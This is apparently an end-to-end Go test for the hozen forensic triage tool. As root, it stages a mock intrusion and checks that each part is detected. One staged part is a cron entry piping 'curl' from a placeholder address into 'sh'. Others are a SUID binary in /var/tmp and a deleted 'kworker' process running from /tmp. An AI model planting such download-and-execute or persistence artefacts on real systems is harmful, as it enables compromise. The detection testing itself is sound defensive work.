package main

import (
	"bytes"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/hozen-dfir/hozen/artifact"
)

// The re-executed test binary holds a raw socket open when asked to.
func init() {
	if os.Getenv("HOZEN_E2E_CHILD") != "raw-socket" {
		return
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_ICMP)
	if err != nil {
		fmt.Fprintln(os.Stderr, "raw socket:", err)
		os.Exit(3)
	}
	defer syscall.Close(fd)
	fmt.Println("ready")
	time.Sleep(5 * time.Minute) // killed by the test
	os.Exit(0)
}

// stagedItem is one part of the staged incident and how its finding is
// recognised: by host path or by pid, once one of the rules that can flag
// it ran. Rules of other helpers' collectors are named as the issue's
// wave 2 plans them; an item none of whose rules ran in this build is
// reported as not asserted, naming the rules (fix the names on merge).
type stagedItem struct {
	what  string
	path  string
	pid   int
	rules []string
}

// TestStagedIncident stages an incident on this machine (root only) and
// collects it with the triage profile: a cron job that pipes curl into sh,
// an executable in /dev/shm, a SUID copy of a binary in /var/tmp, a process
// holding a raw socket, and a program running from /tmp whose file was
// deleted. Each must be a finding in findings.json. It removes everything
// it staged and stops the processes it started.
func TestStagedIncident(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("stages an incident in /etc/cron.d, /dev/shm and /var/tmp: needs root")
	}
	if testing.Short() {
		t.Skip("a whole triage collection of this machine")
	}
	tag := "hozen-e2e-" + randHex(t)
	cleanup := func(p string) { t.Cleanup(func() { os.RemoveAll(p) }) }
	writeFile := func(p string, b []byte, mode os.FileMode) {
		t.Helper()
		cleanup(p)
		if err := os.WriteFile(p, b, mode); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(p, mode); err != nil {
			t.Fatal(err)
		}
	}
	trueBin, err := os.ReadFile("/bin/true")
	if err != nil {
		t.Skip("no /bin/true to copy:", err)
	}
	sleepBin, err := os.ReadFile("/bin/sleep")
	if err != nil {
		t.Skip("no /bin/sleep to copy:", err)
	}

	// 1. A cron job that fetches a script into sh (on 31 February: never run).
	cronFile := "/etc/cron.d/" + tag
	writeFile(cronFile, []byte("0 0 31 2 * root curl -fsSL http://192.0.2.1/stage2.sh | sh\n"), 0o644)
	// 2. An executable in /dev/shm.
	shmFile := "/dev/shm/" + tag
	writeFile(shmFile, trueBin, 0o755)
	// 3. A SUID copy of a binary in /var/tmp.
	suidDir := "/var/tmp/" + tag
	cleanup(suidDir)
	if err := os.Mkdir(suidDir, 0o755); err != nil {
		t.Fatal(err)
	}
	suidFile := filepath.Join(suidDir, "true")
	writeFile(suidFile, trueBin, 0o4755)
	// 4. A process holding a raw socket: this test binary, re-executed.
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	raw := exec.Command(self)
	raw.Env = append(os.Environ(), "HOZEN_E2E_CHILD=raw-socket")
	rawOut, _ := raw.StdoutPipe()
	if err := raw.Start(); err != nil {
		t.Fatal(err)
	}
	stopProcess(t, raw)
	if line, _ := readLine(rawOut); line != "ready" {
		t.Fatalf("raw-socket child said %q", line)
	}
	// 5. A program run from /tmp, its file deleted while it runs.
	tmpDir, err := os.MkdirTemp("/tmp", tag)
	if err != nil {
		t.Fatal(err)
	}
	cleanup(tmpDir)
	sleeper := filepath.Join(tmpDir, "kworker")
	writeFile(sleeper, sleepBin, 0o755)
	del := exec.Command(sleeper, "300")
	if err := del.Start(); err != nil {
		t.Skipf("cannot run a program from /tmp (noexec?): %v", err)
	}
	stopProcess(t, del)
	time.Sleep(100 * time.Millisecond) // let it exec before the file goes
	if err := os.Remove(sleeper); err != nil {
		t.Fatal(err)
	}
	sleepSum := sha256.Sum256(sleepBin)

	out := t.TempDir()
	var stdout, stderr bytes.Buffer
	if code := run([]string{"collect", "--profile", "triage", "--out", out, "--case", "e2e"}, nil, &stdout, &stderr); code != 0 {
		t.Fatalf("collect: exit %d\n%s", code, stderr.String())
	}
	files := bundleEntries(t, strings.TrimSpace(stdout.String()))
	var fd artifact.Findings
	if err := json.Unmarshal(files[artifact.PathFindings], &fd); err != nil {
		t.Fatalf("findings.json: %v", err)
	}

	items := []stagedItem{
		{what: "cron job piping curl into sh", path: cronFile, rules: []string{"persistence-download-exec"}},
		{what: "executable in /dev/shm", path: shmFile, rules: []string{"exec-in-tmp", "tmp-executable"}},                                                     // cov-tmp/cov-fs
		{what: "SUID copy in /var/tmp", path: suidFile, rules: []string{"suid-file", "suid-in-tmp", "setuid-file"}},                                           // cov-fs
		{what: "process holding a raw socket", pid: raw.Process.Pid, rules: []string{"raw-socket"}},                                                           // a later helper
		{what: "deleted program running from /tmp", pid: del.Process.Pid, rules: []string{"deleted-exe", "exe-deleted", "exec-in-tmp", "process-exe-in-tmp"}}, // cov-proc
	}
	var notAsserted []string
	for _, it := range items {
		var hit *artifact.Finding
		for i, f := range fd.Findings {
			if it.path != "" && string(f.Path) == it.path || it.pid != 0 && f.PID == it.pid {
				hit = &fd.Findings[i]
				break
			}
		}
		switch {
		case hit != nil:
			t.Logf("%s: %s %s: %s", it.what, hit.Severity, hit.Rule, hit.Title)
		case !slices.ContainsFunc(it.rules, func(r string) bool { return slices.Contains(fd.Rules, r) }):
			notAsserted = append(notAsserted, fmt.Sprintf("%s (needs rule %s)", it.what, strings.Join(it.rules, " or ")))
		default:
			t.Errorf("%s (%s%s): no finding, though a rule for it ran; rules that ran: %v", it.what, it.path, pidText(it.pid), fd.Rules)
		}
	}

	// The deleted program is still hashed: its SHA-256 is the original's.
	var pt artifact.ProcessTable
	if err := json.Unmarshal(files[artifact.PathProcesses], &pt); err != nil {
		t.Fatal(err)
	}
	for _, p := range pt.Processes {
		if p.PID != del.Process.Pid {
			continue
		}
		if !p.ExeDeleted || p.ExeHash == nil || p.ExeHash.SHA256 != hex.EncodeToString(sleepSum[:]) {
			t.Errorf("pid %d: exe_deleted %v, exe hash %+v; want deleted, sha256 %x", p.PID, p.ExeDeleted, p.ExeHash, sleepSum)
		}
	}
	if len(notAsserted) > 0 {
		t.Skipf("not asserted, their rules are not in this build: %s", strings.Join(notAsserted, "; "))
	}
}

func pidText(pid int) string {
	if pid == 0 {
		return ""
	}
	return fmt.Sprintf("pid %d", pid)
}

func randHex(t *testing.T) string {
	b := make([]byte, 4)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(b)
}

// stopProcess kills the process the test started, by its pid, at cleanup.
func stopProcess(t *testing.T, c *exec.Cmd) {
	t.Cleanup(func() {
		c.Process.Kill()
		c.Wait()
	})
}

func readLine(r io.Reader) (string, error) {
	var b []byte
	one := make([]byte, 1)
	for len(b) < 256 {
		n, err := r.Read(one)
		if n == 1 {
			if one[0] == '\n' {
				break
			}
			b = append(b, one[0])
		}
		if err != nil {
			return string(b), err
		}
	}
	return string(b), nil
}
